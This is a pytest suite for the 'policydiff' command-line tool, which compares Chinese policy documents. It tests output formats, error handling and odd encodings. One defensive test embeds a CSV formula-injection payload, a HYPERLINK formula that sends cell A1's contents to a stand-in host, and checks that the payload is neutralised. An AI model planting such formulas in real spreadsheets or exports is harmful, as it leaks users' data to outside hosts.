"""The ``policydiff`` command, run as a real process (``python -m policydiff`` and the console
script), as users and CI run it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import BINHAI, CITY, ROOT

PYTHON = [sys.executable, "-m", "policydiff"]


def run(*args: str | os.PathLike[str], command: list[str] | None = None,
        env: dict[str, str] | None = None, cwd: Path | None = None
        ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*(command or PYTHON), *map(os.fspath, args)], capture_output=True,
                          text=True, encoding="utf-8", timeout=300, cwd=cwd or ROOT,
                          env={**os.environ, **(env or {})}, check=False)


def assert_one_error_line(result: subprocess.CompletedProcess[str], *names: str) -> str:
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("policydiff: error: ")
    assert "Traceback" not in result.stderr
    for name in names:
        assert name in lines[0]
    return lines[0]


# --- parse ------------------------------------------------------------------------------------

def test_parse_prints_the_clause_tree() -> None:
    result = run("parse", BINHAI)
    assert result.returncode == 0, result.stderr
    assert "doc_number: 津滨政发〔2019〕16号" in result.stdout
    assert "date:       2019-07-18" in result.stdout
    assert "<table_row>" in result.stdout


def test_parse_json() -> None:
    result = run("parse", CITY, "--format", "json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["date"] == "2018-12-02"
    assert data["clauses"] and all({"id", "path", "kind", "text"} <= c.keys()
                                   for c in data["clauses"])


# --- compare ----------------------------------------------------------------------------------

def test_compare_writes_json_to_stdout() -> None:
    result = run("compare", CITY, BINHAI)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    data = json.loads(result.stdout)
    assert data["format"] == "policydiff.comparison/1"
    assert data["derived"]["doc_number"] == "津滨政发〔2019〕16号"
    assert data["pairs"]


def test_compare_json_is_the_same_bytes_whatever_the_hash_seed() -> None:
    first = run("compare", CITY, BINHAI, env={"PYTHONHASHSEED": "1"})
    second = run("compare", CITY, BINHAI, env={"PYTHONHASHSEED": "2"})
    assert first.returncode == second.returncode == 0
    assert first.stdout == second.stdout


def test_compare_output_json(tmp_path: Path) -> None:
    out = tmp_path / "x.json"
    result = run("compare", CITY, BINHAI, "-o", out)
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["format"] == "policydiff.comparison/1"
    assert out.read_text(encoding="utf-8") == run("compare", CITY, BINHAI).stdout


def test_compare_output_html(tmp_path: Path) -> None:
    out = tmp_path / "x.html"
    result = run("compare", CITY, BINHAI, "-o", out)
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    html = out.read_text(encoding="utf-8")
    assert html.lstrip().lower().startswith("<!doctype html")
    assert "</html>" in html.lower()
    assert "滨海" in html


def test_compare_format_overrides_the_extension(tmp_path: Path) -> None:
    out = tmp_path / "report.txt"
    result = run("compare", CITY, BINHAI, "--format", "html", "-o", out)
    assert result.returncode == 0, result.stderr
    assert "<html" in out.read_text(encoding="utf-8").lower()


def test_compare_options(tmp_path: Path) -> None:
    plain = json.loads(run("compare", CITY, BINHAI).stdout)
    parent_id = plain["dropped"][0]["id"]
    derived_id = plain["added"][0]["id"]
    pins = tmp_path / "pins.json"
    pins.write_text(json.dumps([[parent_id, derived_id]]), encoding="utf-8")
    result = run("compare", CITY, BINHAI, "--pins", pins, "--cutoff", "0.6", "--no-localize")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert any(pair["pinned"] and parent_id in [c["id"] for c in pair["parent"]]
               and derived_id in [c["id"] for c in pair["derived"]] for pair in data["pairs"])
    # without localisation, 本市→新区 is an ordinary change
    assert data["summary"]["localized"] == 0 < plain["summary"]["localized"]


# --- errors -----------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["missing", "directory", "empty", "binary", "pdf"])
@pytest.mark.parametrize("command", ["parse", "compare-parent", "compare-derived"])
def test_bad_input_is_one_line_and_exit_2(tmp_path: Path, kind: str, command: str) -> None:
    path = tmp_path / f"{kind}.txt"
    if kind == "directory":
        path.mkdir()
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "binary":
        path.write_bytes(b"\x00\x01\x02binary\x00" * 20)
    elif kind == "pdf":
        path = tmp_path / "document.pdf"
        path.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
    if command == "parse":
        result = run("parse", path)
    elif command == "compare-parent":
        result = run("compare", path, BINHAI)
    else:
        result = run("compare", CITY, path)
    assert_one_error_line(result, str(path))


@pytest.mark.parametrize(("content", "problem"), [
    ("[[", "not valid JSON"), ('{"a": 1}', "pins must be"), ('[["nope", "nope"]]', "'nope'")])
def test_bad_pins_are_one_line_and_exit_2(tmp_path: Path, content: str, problem: str) -> None:
    pins = tmp_path / "pins.json"
    pins.write_text(content, encoding="utf-8")
    assert_one_error_line(run("compare", CITY, BINHAI, "--pins", pins), str(pins), problem)


def test_bad_cutoff_is_one_line_and_exit_2() -> None:
    assert_one_error_line(run("compare", CITY, BINHAI, "--cutoff", "2"), "--cutoff")


def test_unwritable_output_is_one_line_and_exit_2(tmp_path: Path) -> None:
    out = tmp_path / "no-such-dir" / "x.json"
    assert_one_error_line(run("compare", CITY, BINHAI, "-o", out), str(out))


def test_usage_errors_exit_2() -> None:
    result = run("compare", CITY)
    assert result.returncode == 2
    assert "usage:" in result.stderr
    assert "Traceback" not in result.stderr


# --- entry points -----------------------------------------------------------------------------

def test_python_dash_m_policydiff_shows_help() -> None:
    result = run("--help")
    assert result.returncode == 0
    assert "compare" in result.stdout and "parse" in result.stdout


def test_console_script_when_installed() -> None:
    script = shutil.which("policydiff", path=str(Path(sys.executable).parent))
    if script is None:
        pytest.skip("the policydiff console script is not installed beside this Python")
    result = run("compare", CITY, BINHAI, command=[script])
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["format"] == "policydiff.comparison/1"


# --- hostile and odd input (issue 15) ----------------------------------------------------------

SMALL = ROOT / "tests" / "cases" / "report-small"
GBK_NAME = os.fsdecode(b"\xcc\xec\xbd\xf2.txt")  # 天津.txt in GBK, as a Windows zip names it
TAIWAN = ROOT.parent / "shared" / "corpus" / "laws" / "tw-accountant-act-2007"
needs_taiwan = pytest.mark.skipif(not TAIWAN.exists(), reason="needs the shared corpus")


def in_process(*args: str | os.PathLike[str]) -> tuple[int, str, str]:
    """Run ``main`` here (no interpreter start-up); returns (exit code, stdout, stderr)."""
    import contextlib
    import io

    from policydiff.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([os.fspath(arg) for arg in args])
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("suffix", [".json", ".html", ".md", ".csv"])
def test_non_utf8_file_name_in_every_format(tmp_path: Path, suffix: str) -> None:
    derived = tmp_path / GBK_NAME
    shutil.copy(SMALL / "derived.txt", derived)
    out = tmp_path / f"report{suffix}"
    code, _, err = in_process("compare", SMALL / "parent.txt", derived, "-o", out, "--quiet")
    assert (code, err) == (0, "")
    gbk_out = tmp_path / (GBK_NAME[:-4] + suffix)  # the report's own name in GBK too
    code, _, err = in_process("compare", SMALL / "parent.txt", derived, "-o", gbk_out)
    assert gbk_out.read_bytes() == out.read_bytes()
    assert code == 0
    assert err.startswith("policydiff: wrote ") and "\ufffd\ufffd" in err  # shown, not crashed
    text = out.read_bytes().decode("utf-8")  # valid UTF-8, not 0 bytes
    assert "滨海新区" in text
    if suffix in (".json", ".html"):  # the reports that name their files
        assert "\ufffd\ufffd.txt" in text  # the name, with replacement characters
    if suffix == ".csv":
        assert (tmp_path / "report-targets.csv").read_bytes().decode("utf-8")


def test_non_utf8_file_name_to_stdout_and_in_errors(tmp_path: Path) -> None:
    derived = tmp_path / GBK_NAME
    shutil.copy(SMALL / "derived.txt", derived)
    result = subprocess.run([*PYTHON, "compare", os.fsencode(SMALL / "parent.txt"),
                             os.fsencode(derived)], capture_output=True, cwd=ROOT, timeout=300,
                            check=False)
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout.decode("utf-8"))
    assert data["derived"]["source"].endswith("\ufffd\ufffd.txt")
    # the API's own JSON is UTF-8 text too, not only what the writers put out
    from policydiff import compare
    text = compare(SMALL / "parent.txt", derived).to_json()
    assert text.encode("utf-8") and "\ufffd\ufffd.txt" in text
    missing = subprocess.run([*PYTHON, "parse", os.fsencode(tmp_path / "x\xcc.txt".encode(
        "latin-1").decode("utf-8", "surrogateescape"))], capture_output=True, cwd=ROOT,
        timeout=300, check=False)
    assert missing.returncode == 2
    assert missing.stderr.decode("utf-8").rstrip().endswith("x\ufffd.txt: no such file")


def test_a_mistyped_path_is_an_error_not_the_text() -> None:
    # The reproducer: the second argument names no file.
    result = run("compare", CITY, "2019-binhai-certification-plna")
    line = assert_one_error_line(result)
    assert line == "policydiff: error: 2019-binhai-certification-plna: no such file"
    code, _, err = in_process("parse", "第一条 正文。")
    assert code == 2 and err == "policydiff: error: 第一条 正文。: no such file\n"


def test_load_keeps_taking_text_in_python() -> None:
    from policydiff import load

    assert load("第一条 正文。").source == "<text>"
    assert load("2019-binhai-certification-plna").source == "<text>"


@needs_taiwan
def test_big5_pair_needs_encoding_and_then_compares_as_utf8(tmp_path: Path) -> None:
    for side in ("old", "new"):
        text = (TAIWAN / f"{side}.txt").read_text(encoding="utf-8")
        (tmp_path / f"{side}.txt").write_bytes(text.encode("big5"))
    code, out, err = in_process("compare", tmp_path / "old.txt", tmp_path / "new.txt")
    assert code == 2 and out == ""
    assert err.startswith(f"policydiff: error: {tmp_path / 'old.txt'}: looks like Big5 text")
    assert "--encoding big5" in err
    code, big5, err = in_process("compare", tmp_path / "old.txt", tmp_path / "new.txt",
                                 "--encoding", "big5")
    assert (code, err) == (0, "")
    code, utf8, _ = in_process("compare", TAIWAN / "old.txt", TAIWAN / "new.txt")
    assert code == 0
    first, second = json.loads(big5), json.loads(utf8)
    for data in (first, second):
        for side in ("parent", "derived"):
            data[side].pop("source")
    assert first == second
    # one side forced, the other read as UTF-8
    code, mixed, err = in_process("compare", tmp_path / "old.txt", TAIWAN / "new.txt",
                                  "--parent-encoding", "big5")
    assert (code, err) == (0, "")
    assert json.loads(mixed)["summary"] == second["summary"]


def test_unknown_encoding_is_one_line(tmp_path: Path) -> None:
    code, _, err = in_process("compare", SMALL / "parent.txt", SMALL / "derived.txt",
                              "--encoding", "klingon")
    assert code == 2 and err.endswith("unknown encoding 'klingon'\n")


def test_csv_needs_no_pandas(tmp_path: Path) -> None:
    # pandas blocked as on a plain `pip install .`; the bytes are those pandas wrote before.
    script = ("import sys; sys.modules['pandas'] = None\n"
              "from policydiff.cli import main\n"
              f"sys.exit(main(['compare', {str(SMALL / 'parent.txt')!r}, "
              f"{str(SMALL / 'derived.txt')!r}, '-o', {str(tmp_path / 'r.csv')!r}]))\n")
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            cwd=ROOT, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    from policydiff import compare
    from policydiff.renderers import frames

    comparison = compare(SMALL / "parent.txt", SMALL / "derived.txt")
    pandas_text = "\ufeff" + comparison.to_dataframe().to_csv(index=False, lineterminator="\n")
    assert (tmp_path / "r.csv").read_text(encoding="utf-8") == pandas_text
    targets = "\ufeff" + frames.targets_frame(comparison).to_csv(index=False, lineterminator="\n")
    assert (tmp_path / "r-targets.csv").read_text(encoding="utf-8") == targets


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_formula_injection_is_neutralised(tmp_path: Path, start: str) -> None:
    import csv

    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"点此")'
    parent = tmp_path / "parent.txt"
    derived = tmp_path / "derived.txt"
    parent.write_text("第一条 本办法自公布之日起施行。\n", encoding="utf-8")
    derived.write_text(f"第一条 本办法自公布之日起施行。\n{formula}\n", encoding="utf-8")
    code, out, err = in_process("compare", parent, derived, "--format", "csv")
    assert (code, err) == (0, "")
    cells = [cell for row in csv.reader(out.splitlines(keepends=True)) for cell in row]
    texts = [cell for cell in cells if "HYPERLINK" in cell]
    assert texts and all(cell.startswith("'") for cell in texts), texts
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_frame_csv_guards_tab_and_carriage_return_too() -> None:
    import pandas

    from policydiff.renderers import frames

    frame = pandas.DataFrame({"text": ["\t=1+1", "\r@SUM(A1)", "正文", "-"], "value": [-1.5, 2.0,
                                                                                  0.0, 1.0]})
    text = frames.frame_csv(frame)
    assert text.startswith("text,value\n'\t=1+1,-1.5\n'\r@SUM(A1)")
    assert text.endswith("\n正文,0.0\n'-,1.0\n")  # numbers keep their sign


def test_pins_file_not_utf8_is_one_line(tmp_path: Path) -> None:
    pins = tmp_path / "pins.json"
    pins.write_bytes('[["第一条", "第一条"]]'.encode("gbk"))
    code, _, err = in_process("compare", SMALL / "parent.txt", SMALL / "derived.txt",
                              "--pins", pins)
    assert code == 2
    assert err == f"policydiff: error: {pins}: pins file is not UTF-8 text (byte offset 3)\n"


@pytest.mark.parametrize("localize", [{"": "x"}, {"本市": ""}, [("  ", "区")], {"市": None}])
def test_empty_localize_terms_are_refused(localize: object) -> None:
    from policydiff import ParseError, compare

    with pytest.raises(ParseError, match=r"^localize: pair 1 .*(empty term|must be text)"):
        compare("第一条 本市正文。", "第一条 本区正文。", localize=localize)  # type: ignore[arg-type]
